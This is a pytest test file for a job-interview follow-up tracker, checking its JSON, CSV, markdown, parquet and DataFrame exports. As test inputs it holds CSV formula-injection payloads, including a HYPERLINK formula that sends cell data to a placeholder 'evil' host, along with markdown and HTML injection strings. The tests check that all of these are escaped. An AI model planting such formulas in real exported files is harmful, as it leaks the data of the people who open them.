"""The table for other programs: JSON, CSV, markdown, parquet and the DataFrame, whole, typed and safe."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from datetime import datetime
from pathlib import Path

import pytest
from limits import HANGS
from sample import SAMPLE

import followup_kit
from followup_kit.api import open_board
from followup_kit.cli import main
from followup_kit.kinds import KINDS, STATES
from followup_kit.views.export import (
    COLUMNS,
    as_json,
    board_as_dict,
    board_facts,
    csv_cell,
    csv_pieces,
    json_pieces,
    markdown_pieces,
)

NOW = "2026-11-19T09:00"
ENTRY = """---
company: Northwind Analytics
role: Data Engineer
date: 2026-11-18 14:00
interviewers:
  - {name: Dana Whitfield, email: dana@northwind.example}
log:
  - {date: 2026-11-18 18:00, sent: thank-you, to: Dana, by: email}
  - {date: 2026-11-18 19:00, sent: public-post}
---
"""
TOP = ["schema", "now", "playbook", "journal", "read", "unread", "notes", "actions", "problems", "warnings"]
ROW = [
    "id",
    "interview",
    "opportunity",
    "company",
    "role",
    "kind",
    "to",
    "via",
    "by",
    "step",
    "optional",
    "opens",
    "due",
    "state",
    "done",
    "blocked_by",
    "reason",
    "rule",
    "source",
    "anchor",
]
FLAT = [*ROW[:-1], "anchor_event", "anchor_at", "anchor_file", "anchor_line", "anchor_assumed"]


@pytest.fixture
def run(capsys):
    """Runs the command in this process: exit code, standard output, standard error."""

    def run(*argv):
        code = main([*argv, "--now", NOW])
        out, err = capsys.readouterr()
        return code, out, err

    return run


# JSON


@pytest.mark.parametrize("command", ["due --json", "due --all --json", "table --format json", "table --json"])
def test_json_has_exactly_the_fields_of_the_contract(command, make_journal, run, monkeypatch):
    """All fields are there, in the contract's order, of the contract's types; the text ends with one newline."""
    monkeypatch.chdir(make_journal({"a.md": ENTRY, "bad.md": "---\nrole: [\n---\n", "n.md": "# n"}).parent)
    code, out, _ = run(*command.split(), "--journal", "journal")
    assert code == 1
    assert out.endswith("}\n")
    assert not out.endswith("\n\n")
    told = json.loads(out, parse_constant=lambda name: pytest.fail(name))
    assert list(told) == ([*TOP, "interviews"] if command.startswith("due") else TOP)
    assert [told[k] for k in TOP[:7]] == [1, "2026-11-19T09:00:00-05:00", "balanced", "journal", 1, 1, 1]
    for row in told["actions"]:
        assert list(row) == ROW
        assert list(row["anchor"]) == ["event", "at", "file", "line", "assumed"]
        assert row["kind"] in KINDS
        assert row["state"] in STATES
        assert type(row["optional"]) is type(row["anchor"]["assumed"]) is bool
        assert type(row["step"]) is type(row["anchor"]["line"]) is int
        assert datetime.fromisoformat(row["opens"]) <= datetime.fromisoformat(row["due"])
        for moment in (row["opens"], row["due"], row["anchor"]["at"], row["done"]):
            assert moment is None or datetime.fromisoformat(moment).tzinfo
    assert [list(p) for p in told["problems"]] == [["file", "line", "column", "severity", "code", "message", "hint"]]
    assert told["warnings"] == [
        {"code": "posted-publicly", "interview": "a", "to": None, "message": "an update on the interview was posted in public"}
    ]


def test_one_row_whole(make_journal, run):
    """One row of JSON, every value of it."""
    rows = json.loads(run("table", "--json", "--journal", os.fspath(make_journal({"a.md": ENTRY})))[1])["actions"]
    row = next(r for r in rows if r["kind"] == "thank-you")
    reason = row.pop("reason")
    assert row == {
        "id": "a/thank-you/dana-whitfield", "interview": "a", "opportunity": "northwind-analytics-data-engineer", "company": "Northwind Analytics", "role": "Data Engineer",
        "kind": "thank-you", "to": "Dana Whitfield", "via": None, "by": "email", "step": 1, "optional": False, "opens": "2026-11-18T15:00:00-05:00", "due": "2026-11-19T15:00:00-05:00",
        "state": "done", "done": "2026-11-18T18:00:00-05:00", "blocked_by": None, "rule": "R04", "source": "balanced",
        "anchor": {"event": "interview end", "at": "2026-11-18T15:00:00-05:00", "file": "a.md", "line": 4, "assumed": False},
    }  # fmt: skip
    assert reason.endswith(".")


def test_rows_are_sorted_and_ids_unique(sample_board):
    """Rows stand by state, then deadline, then id."""
    rows = sample_board.actions
    assert list(rows) == sorted(rows, key=lambda a: (STATES.index(a.state), a.due, a.id))
    assert len({a.id for a in rows}) == len(rows) > 50


def test_due_has_the_rows_of_due_and_table_all(run):
    """`due --json` has what is open and the next few; `table` and `due --all` have every row."""
    some, every, table = (
        json.loads(run(*c.split(), "--journal", os.fspath(SAMPLE))[1]) for c in ("due --json", "due --all --json", "table --json")
    )
    assert {k: v for k, v in every.items() if k != "interviews"} == table
    assert {a["state"] for a in some["actions"]} <= {"overdue", "due", "blocked", "waiting"}
    assert [a for a in table["actions"] if a["state"] in STATES[:3]] == [a for a in some["actions"] if a["state"] in STATES[:3]]
    coming = [a for a in some["actions"] if a["state"] == "waiting" and a["opens"][:10] != NOW[:10]]
    assert len(coming) <= 5  # and what opens later today


def test_times_carry_the_offset_of_the_entrys_zone(make_journal, run):
    """A row's times are in its interview's zone, `now` is in the person's."""
    folder = make_journal({"a.md": ENTRY.replace("role:", "timezone: Asia/Tokyo\nrole:")})
    told = json.loads(run("table", "--json", "--journal", os.fspath(folder))[1])
    assert told["now"].endswith("-05:00")
    assert {a["due"][-6:] for a in told["actions"] if a["interview"]} == {"+09:00"}


@pytest.mark.parametrize("command", ["due --json", "table --json", "check --json", "draft --json", "why x --json"])
def test_json_is_json_where_the_settings_are_wrong(command, make_journal, run):
    """Also with a broken `journal.toml` standard output is one JSON document, exit 1, and nothing in it pretends to be a row."""
    code, out, _ = run(*command.split(), "--journal", os.fspath(make_journal({"a.md": ENTRY}, toml="x = [")))
    told = json.loads(out)
    assert code == 1
    assert told["schema"] == 1
    assert not told.get("actions")
    if command != "draft --json":
        assert [p["file"] for p in told["problems"]] == ["journal.toml"]


# CSV and markdown

CELLS = ['=HYPERLINK("http://evil/?"&A1,"x")', "-5 days", "+1", "@SUM(A1)", "=1+1", "\t=1+1", "\r=1+1", "  =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u2028=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "a\0b", "a\rb", "a\nb", "a\x85b", 'a"b', "a,b", "a;b", "\x00=1", "\x1b=1", "\x0b=1+1", "\x0c=1"]  # fmt: skip


@pytest.mark.parametrize("text", CELLS, ids=ascii)
def test_no_cell_is_run_as_a_formula(text):
    """What a spreadsheet would run begins with an apostrophe, and no cell holds a line break or control character."""
    cell = csv_cell(text)
    assert not cell.lstrip("\u200b\ufeff \u00a0").startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
    assert cell.isprintable() or "\u00a0" in cell


def test_an_ordinary_cell_is_left_alone():
    """Names, numbers, dates and ids are not touched; null is empty, yes and no are spelled."""
    for text in ("Dana Whitfield", "O'Neil", "2026-11-18T15:00:00-05:00", "a-b", "3", "Łódź 東京", "'quoted'"):
        assert csv_cell(text) == text
    assert [csv_cell(v) for v in (None, True, False, 3)] == ["", "true", "false", "3"]


@pytest.mark.parametrize("text", CELLS, ids=ascii)
def test_csv_has_one_record_a_row(text, make_journal, run):
    """Whatever stands in a name, the CSV has as many records as there are actions, each with all columns; JSON has the raw text."""
    q = json.dumps(text)
    name = json.dumps(text.replace(",", "|").replace(";", "|"))  # with these it would be two people
    folder = os.fspath(make_journal({"a.md": ENTRY.replace("Northwind Analytics", q).replace("Dana Whitfield", name)}))
    told = json.loads(run("table", "--json", "--journal", folder)[1])
    records = list(csv.reader(io.StringIO(run("table", "--format", "csv", "--journal", folder)[1]), strict=True))
    assert records[0] == FLAT == list(COLUMNS)
    assert [r[0].removeprefix("'") for r in records[1:]] == [a["id"] for a in told["actions"]]
    assert {len(r) for r in records} == {len(FLAT)}
    errors = [p for p in told["problems"] if p["severity"] == "error"]
    if not errors:
        assert {a["company"] for a in told["actions"] if a["interview"]} == {text.strip()}
    else:
        assert {p["code"] for p in errors} <= {"line-break", "control-character", "person"}


def test_csv_and_json_say_the_same(sample_board):
    """Field by field the CSV of the sample journal is its JSON."""
    from followup_kit.views.export import flat

    rows = sample_board.actions
    records = list(csv.DictReader(io.StringIO("".join(csv_pieces(rows)))))
    assert records == [{k: csv_cell(v) for k, v in flat(a).items()} for a in rows]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a|b", r"a\|b"),
        ("*b*", r"\*b\*"),
        ("_b_", r"\_b\_"),
        ("`b`", r"\`b\`"),
        ("[a](javascript:x)", r"\[a\](javascript:x)"),
        ("<img src=x>", "&lt;img src=x&gt;"),
        ("a & b", "a &amp; b"),
        ("a\\|b", r"a\\\|b"),
        ("$x$", r"\$x\$"),
        ("a\x1b[31m", "a\\\\x1b\\[31m"),
    ],
)
def test_markdown_is_escaped(text, shown, make_journal):
    """Text from entries neither breaks the table nor becomes markup."""
    board = open_board(make_journal({"a.md": ENTRY.replace("Northwind Analytics", json.dumps(text))}), NOW)
    table = "".join(markdown_pieces(board.actions))
    assert f"| {shown} |" in table
    assert len(table.splitlines()) == 2 + len(board.actions)
    assert {line.replace("\\\\", "").replace("\\|", "").count("|") for line in table.splitlines()} == {10}


def test_text_formats_import_no_pandas(make_journal):
    """JSON, CSV and markdown work where pandas cannot be imported at all."""
    script = "import sys; sys.modules['pandas'] = None\nfrom followup_kit.cli import main\nsys.exit(max(main(['table', '--format', f, '--journal', sys.argv[1], '--now', sys.argv[2]]) for f in ('json', 'csv', 'markdown')))"
    done = subprocess.run(
        [sys.executable, "-c", script, os.fspath(make_journal({"a.md": ENTRY})), NOW],
        capture_output=True,
        check=False,
        timeout=HANGS,
    )
    assert (done.returncode, done.stderr) == (0, b"")


# The DataFrame

DTYPES = {
    "opens": "datetime64[us, UTC]",
    "due": "datetime64[us, UTC]",
    "done": "datetime64[us, UTC]",
    "anchor_at": "datetime64[us, UTC]",
    "step": "int64",
    "anchor_line": "int64",
    "optional": "bool",
    "anchor_assumed": "bool",
    "kind": "category",
    "state": "category",
}


@pytest.mark.parametrize("files", [{"a.md": ENTRY}, {}, {"bad.md": "---\nrole: [\n---\n"}], ids=["rows", "no entry", "an error"])
def test_the_frame_has_its_columns_and_types_also_when_empty(files, make_journal):
    """Columns, types and categories are the same with rows and without any."""
    frame = followup_kit.state_table(make_journal(files), NOW)
    assert list(frame.columns) == FLAT
    assert {c: str(t) for c, t in frame.dtypes.items()} == {c: DTYPES.get(c, "object") for c in FLAT}
    for column, order in (("state", STATES), ("kind", KINDS)):
        assert list(frame[column].cat.categories) == list(order)
        assert frame[column].cat.ordered
    assert frame.attrs["now"] == "2026-11-19T14:00:00+00:00"
    assert frame.attrs["playbook"] == "balanced"
    assert [p["file"] for p in frame.attrs["problems"]] == (["bad.md"] if "bad.md" in files else [])


def test_the_frame_has_the_rows_of_the_json(sample_board):
    """Row by row the DataFrame is the JSON, times as UTC and null as missing."""
    import pandas as pd

    from followup_kit.views.export import flat

    frame = followup_kit.state_table(sample_board)
    assert len(frame) == len(sample_board.actions)
    for (_, got), action in zip(frame.iterrows(), sample_board.actions, strict=True):
        for column, value in flat(action).items():
            if value is None:
                assert pd.isna(got[column])
            elif column in ("opens", "due", "done", "anchor_at"):
                assert got[column] == pd.Timestamp(value)
            else:
                assert got[column] == value
    assert (frame.state < "waiting").sum() == sum(a.state in STATES[:3] for a in sample_board.actions)


def test_the_frame_holds_the_ends_of_the_calendar(make_journal):
    """An interview in the year 9999 or 1700 has its rows in the frame like any other."""
    files = {f"{year}.md": ENTRY.replace("2026-11-18", f"{year}-12-31") for year in ("9999", "1700")}
    frame = followup_kit.state_table(make_journal(files), NOW)
    assert {y for y in frame.due.dt.year if y < 2000} <= {1700, 1701}
    assert set(frame.interview.dropna()) == {"9999", "1700"}


# Files


def test_parquet_round_trip(make_journal, run, tmp_path):
    """A parquet file has the frame's rows, columns and types; nothing is lost on the way."""
    pytest.importorskip("pyarrow")
    import pandas as pd

    folder = make_journal({"a.md": ENTRY.replace("Northwind", "Łódź 東京 =1+1"), "bad.md": "---\nrole: [\n---\n"})
    target = tmp_path / "rows.parquet"
    assert run("table", "--format", "parquet", "-o", os.fspath(target), "--journal", os.fspath(folder))[0] == 1
    wanted = followup_kit.state_table(folder, NOW)
    got = pd.read_parquet(target)
    assert list(got.columns) == FLAT
    assert list(got.state) == list(wanted.state)
    assert got.state.cat.ordered
    assert list(got.due) == list(wanted.due)
    assert list(got.company.dropna()) == list(wanted.company.dropna())
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


@pytest.mark.parametrize("text", CELLS, ids=ascii)
def test_parquet_has_one_record_a_row(text, make_journal, run, tmp_path):
    """A parquet file has as many records as there are actions, and the text as it was typed: no program runs its cells."""
    pytest.importorskip("pyarrow")
    import pandas as pd

    folder = os.fspath(make_journal({"a.md": ENTRY.replace("Northwind Analytics", json.dumps(text))}))
    target = os.fspath(tmp_path / "rows.parquet")
    code = run("table", "--format", "parquet", "-o", target, "--journal", folder)[0]
    told = json.loads(run("table", "--json", "--journal", folder)[1])
    got = pd.read_parquet(target)
    assert list(got.id) == [a["id"] for a in told["actions"]]
    assert list(got.company.dropna()) == [a["company"] for a in told["actions"] if a["company"]]
    assert code in (0, 1)


def test_parquet_of_a_name_that_is_no_unicode(make_journal, run, tmp_path):
    """A file name with bytes that are no UTF-8 ends in no traceback, in any format."""
    pytest.importorskip("pyarrow")
    folder = make_journal({})
    Path(os.fsdecode(os.fsencode(folder) + b"/a\xff.md")).write_text(ENTRY)
    for form in ("json", "csv", "markdown", "parquet"):
        code, _, err = run("table", "--format", form, "-o", os.fspath(tmp_path / form), "--journal", os.fspath(folder))
        assert (code, err) == (0, "")


@pytest.mark.parametrize("form", ["csv", "json", "markdown"])
def test_a_new_file_has_what_standard_output_has(form, make_journal, run, tmp_path):
    """`-o FILE` writes what would have been printed, readable by its owner alone, and prints nothing."""
    folder = os.fspath(make_journal({"a.md": ENTRY}))
    target = tmp_path / "out put"
    printed = run("table", "--format", form, "--journal", folder)[1]
    assert run("table", "--format", form, "--journal", folder, "-o", os.fspath(target)) == (0, "", "")
    assert target.read_text(encoding="utf-8") == printed
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert sorted(os.listdir(tmp_path)) == ["journal", "out put"]


def test_an_existing_file_is_replaced_only_with_force(make_journal, run, tmp_path):
    """`-o` over a file exits 3 and leaves it; `--force` replaces it whole; a folder is never replaced."""
    argv = ("table", "--format", "csv", "--journal", os.fspath(make_journal({"a.md": ENTRY})), "-o")
    target = tmp_path / "rows.csv"
    target.write_text("mine")
    code, out, err = run(*argv, os.fspath(target))
    assert (code, out, target.read_text()) == (3, "", "mine")
    assert "--force" in err
    assert run(*argv, os.fspath(target), "--force") == (0, "", "")
    assert target.read_text().startswith("id,interview,")
    assert run(*argv, os.fspath(tmp_path), "--force")[0] == 3
    (tmp_path / "dangling").symlink_to("nowhere")
    assert run(*argv, os.fspath(tmp_path / "dangling"))[0] == 3
    assert sorted(os.listdir(tmp_path)) == ["dangling", "journal", "rows.csv"]


@pytest.mark.parametrize("make", [os.mkfifo, lambda p: os.symlink("/dev/null", p)], ids=["pipe", "device"])
def test_what_is_no_regular_file_is_never_replaced(make, make_journal, run, tmp_path):
    """`--force` on a pipe or on a link to a device, /dev/stdout say, does not put a file in its place."""
    target = tmp_path / "target"
    make(target)
    before = target.lstat().st_ino, stat.S_IFMT(target.lstat().st_mode)
    run("table", "--format", "csv", "--force", "--journal", os.fspath(make_journal({"a.md": ENTRY})), "-o", os.fspath(target))
    assert (target.lstat().st_ino, stat.S_IFMT(target.lstat().st_mode)) == before


@pytest.mark.parametrize("name", ["a.md", "new.md", "sub/new.MD", "../link/new.md", "drafts/../new.md"])
@pytest.mark.parametrize("force", [(), ("--force",)], ids=["", "--force"])
def test_no_output_becomes_an_entry(name, force, make_journal, run, tmp_path, monkeypatch):
    """A `.md` below the journal is refused with 3, forced or not, by whatever way it is reached."""
    folder = make_journal({"a.md": ENTRY, "sub/n.md": "# n", "drafts/d.txt": "d"})
    (tmp_path / "link").symlink_to(folder)
    monkeypatch.chdir(folder)
    before = sorted(folder.rglob("*"))
    code, out, err = run("table", "-o", name, *force)
    assert (code, out) == (3, "")
    assert ".md files are entries" in err
    assert sorted(folder.rglob("*")) == before
    assert (folder / "a.md").read_text() == ENTRY


def test_json_in_pieces_is_the_same_json(make_journal, sample_board):
    """What is written row by row is, byte for byte, what would be written as a whole; for an empty board too."""
    empty = open_board(make_journal({}), NOW, environ={})
    for board in (sample_board, empty):
        assert "".join(json_pieces(board_facts(board, board.actions))) == as_json(board_as_dict(board, board.actions))
